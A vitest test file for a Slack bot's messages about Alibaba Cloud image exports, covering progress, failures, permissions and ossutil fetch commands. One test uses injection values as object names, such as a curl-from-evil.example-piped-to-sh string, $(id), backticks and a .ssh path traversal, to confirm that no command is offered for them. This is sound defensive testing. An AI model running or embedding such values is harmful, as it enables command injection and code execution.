import { describe, expect, it } from 'vitest';
import type { ClockOff } from '../../../src/domain/clock-offset.ts';
import type { ExportRequest } from '../../../src/domain/export-request.ts';
import { directNote, threadNote } from '../../../src/slack/messages/notes.ts';
import { textsIn } from '../../../src/slack/texts/texts-in.ts';
import { threadNotes, unnamed } from '../../../src/workflow/announcing/notes.ts';
import type { ClosedBecause } from '../../../src/workflow/ports/channel-closed.ts';
import type { Note } from '../../../src/workflow/ports/messenger.ts';
import { anEmergencyRequest } from '../../builders.ts';
import { allRequests, aRequest, denied, described, people, refusal, task } from '../a-request.ts';
import { drawn } from '../drawn.ts';

const note = (kind: Note['kind']): Note => ({ kind, key: kind, version: '' });
const ended = note('ended');
const texts = textsIn('en');
const reply = (of: Note, request: ExportRequest) => threadNote({ note: of, request, texts, site: 'international' });
const direct = (of: Note, request: ExportRequest, cardLink?: string, buckets: string[] = []) =>
  directNote({ note: of, request, texts, cardLink, buckets, site: 'international' });

describe('a reply in the thread', () => {
  const endedInThread = allRequests.filter(([, request]) =>
    threadNotes(request, 0).some(({ kind }) => kind === 'ended'),
  );

  it.each(endedInThread)('of an ending calls the requester by name, once: %s', (_name, request) => {
    const { text, blocks } = reply(ended, request);
    const isOwnCancel = request.status === 'cancelled' && request.by === people.lin;

    expect(text.startsWith(`<@${people.lin}> `)).toBe(!isOwnCancel);
    for (const words of [text.replaceAll(`<@${people.lin}>`, '@lin'), drawn({ blocks })]) {
      expect(words.match(/@lin/g)).toHaveLength(1);
    }
  });

  const isByName = ([, request]: (typeof allRequests)[number]) =>
    request.status === 'failed' && request.failure.reason === 'approver-left';

  it.each(allRequests.filter((each) => !isByName(each)))('notifies no approver: %s', (_name, request) => {
    for (const note of threadNotes(request, 0)) {
      // The name of a person who asks comes with an edit, of which Slack notifies no person.
      const of = note.isNamedLater ? { ...note, version: unnamed } : note;
      expect([of.kind, drawn(reply(of, request))]).toEqual([of.kind, expect.not.stringContaining('@ana')]);
    }
  });

  it('names the approvers who have left, since others have to approve in their place', () => {
    const [left] = allRequests.filter(isByName);

    expect(drawn(reply(ended, left?.[1] ?? expect.unreachable()))).toContain('@ana can no longer approve it');
  });

  it.each(allRequests)('says in its notification which image it is about, by its name: %s', (_name, request) => {
    const named = { ...request, ...described };

    for (const kind of ['started', 'progress', 'unsure', 'ended'] as const) {
      expect(reply(note(kind), named).text).toContain('`acme-web-2026-11`: ');
    }
    expect(drawn({ blocks: reply(ended, named).blocks })).toContain('acme-web-2026-11 · m-bp1acmeweb01');
  });

  it('gives the id of the export task', () => {
    expect(drawn(reply(note('started'), aRequest('exporting')))).toBe(
      "Export started. Task t-bp1task01. I'll report here until it ends.",
    );
  });

  it('distinguishes a part that was not written from those that were, and one reason once', () => {
    const faults = [1, 2].map(() => ({ code: 'InternalError', message: 'It broke.' }));
    const failure = { reason: 'partly' as const, task, faults, objects: ['a_system'], lost: ['a_xvdb', 'a_xvdc'] };

    const words = drawn(reply(ended, aRequest('failed', { failure })));

    expect(words).toContain('Written to acme-exports: a_system. Not written: a_xvdb, a_xvdc.');
    expect(words.match(/It broke\./g)).toHaveLength(1);
    expect(words).not.toContain('by itself');
  });

  it('says how to fetch every object', () => {
    const words = drawn(reply(ended, aRequest('exported', { objects: ['a_system', 'a_xvdb'] })));

    expect(words).toContain('2 objects in acme-exports (raw).');
    for (const name of ['a_system', 'a_xvdb']) expect(words).toContain(`ossutil cp 'oss://acme-exports/${name}' .`);
  });

  it.each([
    "a'; curl evil.example | sh #",
    'a b',
    'a$(id)',
    'a`id`',
    'a\nb',
    'ä',
    '*',
    '../../.ssh/key',
    'x'.repeat(200),
  ])('gives no command to copy for an object called %j', (name) => {
    const words = drawn(reply(ended, aRequest('exported', { objects: [name, 'dir/a_system-1.raw'] })));

    expect(words.match(/ossutil/g)).toHaveLength(1);
    expect(words).toContain("ossutil cp 'oss://acme-exports/dir/a_system-1.raw' .");
  });

  it('gives the id of a task that has failed already', () => {
    const failure = { reason: 'task-failed' as const, task, faults: [] };

    expect(drawn(reply(note('started'), aRequest('failed', { failure })))).toContain('Task t-bp1task01');
  });

  it.each([
    [0, '░░░░░░░░░░ 0%'],
    [48, '▓▓▓▓▓░░░░░ 48%'],
    [99.6, '▓▓▓▓▓▓▓▓▓▓ 100%'],
    [undefined, '░░░░░░░░░░ 0%'],
  ])('draws a progress of %s', (percent, bar) => {
    const request = aRequest('exporting', { task: { ...task, ...(percent !== undefined && { percent }) } });

    expect(drawn(reply(note('progress'), request))).toBe(`Exporting ${bar}`);
  });

  const atMinute = (minutes: number, percent: number) => ({
    ...task,
    percent,
    seenAt: task.startedAt + minutes * 60_000,
  });

  it.each([
    ['the first minute', atMinute(0.9, 12), 'Exporting ▓░░░░░░░░░ 12%'],
    ['too little to tell', atMinute(21, 4), 'Exporting ░░░░░░░░░░ 4% · 21 min so far'],
    ['the middle', atMinute(21, 48), 'Exporting ▓▓▓▓▓░░░░░ 48% · 21 min so far · about 23 min left'],
    ['hours', atMinute(150, 60), 'Exporting ▓▓▓▓▓▓░░░░ 60% · 2 h 30 min so far · about 1 h 40 min left'],
    ['the last moment', atMinute(43, 100), 'Exporting ▓▓▓▓▓▓▓▓▓▓ 100% · 43 min so far'],
  ])('says how long it took, and about how long it takes still: %s', (_when, at, line) => {
    expect(drawn(reply(note('progress'), aRequest('exporting', { task: at })))).toBe(line);
  });

  it('promises no more time while there is no progress, and says how long it runs', () => {
    const still = { ...note('progress'), stillAt: task.startedAt + 5 * 3_600_000 };

    expect(drawn(reply(still, aRequest('exporting', { task: atMinute(21, 48) })))).toBe(
      'Exporting ▓▓▓▓▓░░░░░ 48% · 5 h so far',
    );
  });

  it('promises no more time once the export has ended, where its progress cannot be removed', () => {
    const ended = [
      aRequest('exported', { task: atMinute(43, 95) }),
      aRequest('cancelled', { task: atMinute(21, 48) }),
      aRequest('failed', { failure: { reason: 'vanished', task: atMinute(21, 48) } }),
    ];

    expect(ended.map((request) => drawn(reply(note('progress'), request)))).toEqual([
      'Exporting ▓▓▓▓▓▓▓▓▓▓ 100%',
      'Ended at ▓▓▓▓▓░░░░░ 48%',
      'Ended at ▓▓▓▓▓░░░░░ 48%',
    ]);
  });

  it('says what to look at when an export runs for unusually long', () => {
    const overdue = { ...task, overdueAt: task.startedAt + 25 * 3_600_000 };

    const words = drawn(reply(note('overdue'), aRequest('exporting', { task: overdue })));

    expect(words).toContain('Still running after 25 h');
    expect(words).toContain(`look at task ${task.id} in the ECS console`);
  });

  it('says why nothing is posted, who can fix it, and what becomes of the request', () => {
    const closedNote = (because: ClosedBecause, request: ExportRequest) =>
      drawn(reply({ ...note('channel-lost'), because }, request));

    expect(closedNote('archived', aRequest('pending'))).toMatch(
      /it is archived\. Who can fix it: .*nobody can approve or deny/,
    );
    expect(closedNote('not-in-channel', aRequest('exporting'))).toMatch(
      /I'm not in it.*\/invite.*I'll message you here/,
    );
  });

  it('of a refusal says that nothing was written only where no call was left open', () => {
    const failed = aRequest('failed', { failure: { reason: 'refused', refusal } });
    const certain = { ...failed, retryFrom: { calls: 1, tries: 0, runId: 'run-1' } };

    expect(drawn(reply(ended, certain))).toContain('Nothing was written.');
    expect(drawn(reply(ended, failed))).toContain('The answer to an earlier call may have been lost.');
    expect(drawn(reply(ended, failed))).not.toContain('Nothing was written.');
  });

  it.each([
    ['not-a-member', 'the requester has left the approval channel'],
    ['not-a-requester', 'the requester can no longer request exports'],
    ['guest', 'the requester is a guest'],
    ['bot', "the requester's account is deactivated"],
  ] as const)('says why the requester can no longer ask, before and after an approval: %s', (because, why) => {
    const failure = { reason: 'requester-may-not-ask', because } as const;

    for (const approval of [undefined, aRequest('failed', { failure }).approval]) {
      const words = drawn(reply(ended, aRequest('failed', { failure, approval })));
      expect(words).toContain(why);
      expect(words).toContain('Nothing was written.');
      expect(words).not.toContain('No request was sent.');
    }
  });

  it.each([
    ['Too late to cancel: the export had just finished.', { at: -30_000 }],
    ['Cancellation was requested, but the export ended first.', { at: -3_600_000 }],
    [
      'Alibaba Cloud had accepted the cancellation, but the export finished anyway.',
      { at: -30_000, acceptedAt: -20_000 },
    ],
  ])('says why a wish to cancel came to nothing: %s', (words, ago) => {
    const exported = aRequest('exported');
    const times = Object.fromEntries(Object.entries(ago).map(([name, ms]) => [name, exported.endedAt + ms]));
    const wish = { by: exported.requester, at: 0, ...times };

    expect(drawn(reply(ended, { ...exported, cancelWanted: wish }))).toContain(words);
  });

  it('lists the objects with their sizes, and how to fetch the first five', () => {
    const objects = ['a', 'b', 'c', 'd', 'e', 'f'].map((disk) => `dr7k2_${disk}.raw.tar.gz`);
    const bytes = objects.map((_, disk) => (disk === 0 ? 300 * 2 ** 20 : 2.6 * 2 ** 30));

    const words = drawn(reply(ended, aRequest('exported', { objects, bytes })));

    expect(words).toContain('6 objects, 13.3\u00a0GiB, in acme-exports (raw).');
    expect(words).toContain('Written:\ndr7k2_a.raw.tar.gz  300\u00a0MiB\ndr7k2_b.raw.tar.gz  2.6\u00a0GiB\n');
    expect(words.match(/^ossutil cp .*$/gm)).toHaveLength(5);
    expect(words).toContain("ossutil cp 'oss://acme-exports/dr7k2_a.raw.tar.gz' .");
  });

  it('lists no object that a command names already, where no size is known', () => {
    const words = drawn(reply(ended, aRequest('exported', { objects: ['dr7k2_a.raw', 'dr7k2_b.raw'] })));

    expect(words).toContain('2 objects in acme-exports (raw).');
    expect(words).not.toContain('Written:');
  });

  it('lists names that no command can hold, and no more than twenty', () => {
    const objects = Array.from({ length: 30 }, (_, disk) => `dr7k2 $(disk) ${disk}`);

    const words = drawn(reply(ended, aRequest('exported', { objects })));

    expect(words).toContain('dr7k2 $(disk) 19\n…');
    expect(words).not.toContain('ossutil');
  });

  it('repeats at most three reasons of a task with many disks', () => {
    const faults = Array.from({ length: 16 }, (_, disk) => ({ code: `Disk.Fault${disk}`, message: 'It broke.' }));

    const words = drawn(reply(ended, aRequest('failed', { failure: { reason: 'task-failed', task, faults } })));

    expect(words.match(/· Disk\.Fault\d/g)).toEqual(['· Disk.Fault0', '· Disk.Fault1', '· Disk.Fault2']);
  });

  it.each([
    ['skipped', 'Emergency:', 'presses Reviewed on it by'],
    ['review-overdue', 'Review overdue since', 'presses Reviewed on the card'],
  ] as const)(
    'says in private what a closed channel does not show of an emergency, and notifies no group: %s',
    (kind, first, last) => {
      const request = anEmergencyRequest({ emergency: { skipped: { people: [], isMore: true } } });
      const words = drawn(direct({ ...note(kind), because: 'archived' }, request));

      expect(words).toContain(first);
      expect(words).toContain('it is archived');
      expect(words).toContain(last);
      expect(words).not.toContain('<!channel>');
    },
  );

  it('says of an emergency, which is searched for before its first call, nothing of a restart', () => {
    const request = anEmergencyRequest({ status: 'starting', lostAnswer: { cause: 'redis-restarted' } });
    const words = drawn(reply(note('unsure'), request));

    expect(words).toContain('Checking first. ');
    expect(words).not.toContain('Redis');
  });

  it.each([
    ['lost-answer', "Alibaba Cloud's answer was lost, so the export may be running."],
    ['redis-restarted', 'Redis restarted or failed over after this was requested'],
  ] as const)('says why it is unsure: %s', (cause, words) => {
    const request = aRequest('starting', { lostAnswer: { cause } });

    expect(drawn(reply(note('unsure'), request))).toContain(words);
    expect(drawn(reply(note('unsure'), request))).toContain("won't start it again before I know");
  });

  it.each(['busy', 'image-exporting', 'image-claimed', 'task-unclear', 'quota', 'bucket-unproven'] as const)(
    'says until when it tries again by itself: %s',
    (reason) => {
      const request = aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason, refusal } });

      const words = drawn(reply(note('waiting'), request));

      expect(words).toMatch(/^Waiting\. .+ I'll retry until 2026-11-25 10:42 UTC\./);
      expect(words).toContain('Who can fix it: an Alibaba Cloud administrator');
    },
  );
});

describe('a wait for a clock', () => {
  const on = (clockOff: ClockOff) =>
    aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason: 'clock-off', clockOff } });

  it.each([
    [{ clock: 'bot', ahead: 480_000 } as const, "The bot's clock is 8 min ahead of Alibaba Cloud's."],
    [{ clock: 'bot', ahead: -95_000 } as const, "The bot's clock is 2 min behind Alibaba Cloud's."],
    [{ clock: 'redis', ahead: 480_000 } as const, "The clock of Redis is 8 min ahead of the bot's."],
  ])('says how far it is off and who can fix it: %j', (clockOff, words) => {
    const said = drawn(reply(note('waiting'), on(clockOff)));

    expect(said).toMatch(/^Waiting\. A clock is off, .+ I'll retry until .+ Nothing has started\./);
    expect(said).toContain(`${words} Who can fix it: the bot's operator.`);
    expect(said).not.toContain('need to do anything');
  });
});

describe('a direct message', () => {
  it.each(allRequests)('names the request once: %s', (_name, request) => {
    for (const kind of ['not-cancelled', 'ended', 'waiting'] as const) {
      expect(drawn({ blocks: direct(note(kind), request).blocks }).match(/7k2m4x/g)).toHaveLength(1);
    }
  });

  it('says which request it is about, and leads to its card', () => {
    const link = 'https://acme.slack.com/archives/C1/p1?a=1&b=2';

    const { text, blocks } = direct(ended, aRequest('denied'), link);

    expect(text).toContain('(7k2m4x)');
    expect(drawn({ blocks })).toContain('· m-bp1acmeweb01 · 7k2m4x · Open the card');
    expect(JSON.stringify(blocks)).toContain('<https://acme.slack.com/archives/C1/p1?a=1&amp;b=2|Open the card>');
  });

  it('does without a link where there is no card', () => {
    expect(drawn(direct(ended, aRequest('denied')))).not.toContain('Open the card');
  });

  it('quotes why a person has denied', () => {
    expect(drawn(direct(ended, aRequest('denied')))).toContain("@ana's reason:\n│ use the staging image");
  });
});

describe('who can fix it', () => {
  const prefix = { ...refusal, code: 'InvalidOSSPrefix.Malformed' };
  const request = aRequest('failed', { failure: { reason: 'refused', refusal: prefix } });

  it('is "you" to the requester, and a person to the channel', () => {
    expect(drawn(direct(ended, request))).toContain('Who can fix it: you');
    expect(direct(ended, request).text).toContain('Who can fix it: you.');
    expect(drawn(reply(ended, request))).toContain('Who can fix it: the requester');
  });
});

describe('a missing permission', () => {
  const request = aRequest('failed', { failure: { reason: 'refused', refusal: denied } });

  it('is named to all, its policy shown to the requester and offered to the channel', () => {
    const [inThread, alone] = [reply(ended, request), direct(ended, request)];

    for (const words of [inThread, alone]) expect(words.text).toContain('the permission ecs:ExportImage in');
    expect(JSON.stringify(inThread)).not.toContain('Statement');
    expect(drawn(inThread)).toContain('[Show the policy]');
    expect(drawn(alone)).toContain('"Resource": "acs:ecs:*:*:image/*"');
  });
});

describe('buckets that would fit', () => {
  it('are named in the text too, and counted where they are many', () => {
    const failure = { reason: 'bucket-elsewhere' as const, regionId: 'cn-beijing' };
    const buckets = Array.from({ length: 7 }, (_, index) => `acme-${index}`);

    const words = direct(ended, aRequest('failed', { failure }), undefined, buckets);

    for (const text of [words.text.replaceAll('`', ''), drawn(words)]) {
      expect(text).toContain(
        'Buckets of this account in cn-hangzhou: acme-0, acme-1, acme-2, acme-3, acme-4 and 2 more.',
      );
    }
  });
});

describe('a wait', () => {
  const waitFor = (code: string) =>
    aRequest('waiting', { waiting: { ...aRequest('waiting').waiting, reason: 'busy', refusal: { ...refusal, code } } });

  it('says what Alibaba Cloud means, and that there is nothing to do only where that is so', () => {
    const throttled = drawn(reply(note('waiting'), waitFor('Throttling.User')));
    const keyless = drawn(reply(note('waiting'), waitFor('Bot.NoAccessKey')));

    expect(throttled).toContain(
      "The bot's RAM user is calling Alibaba Cloud too often at the moment. You don't need to do anything.",
    );
    expect(keyless).toContain('The bot has no access key, so nothing was sent.');
    expect(keyless).not.toContain('need to do anything');
  });

  it('claims that nothing has started only while no call is open', () => {
    const { waiting } = waitFor('Throttling.User');
    const open = aRequest('waiting', { waiting: { ...waiting, openSince: waiting.since } });

    expect(drawn(reply(note('waiting'), waitFor('Throttling.User')))).toContain('Nothing has started.');
    expect(drawn(reply(note('waiting'), open))).toContain('I search for its export before each retry.');
    expect(drawn(reply(note('waiting'), open))).not.toContain('Nothing has started.');
  });
});
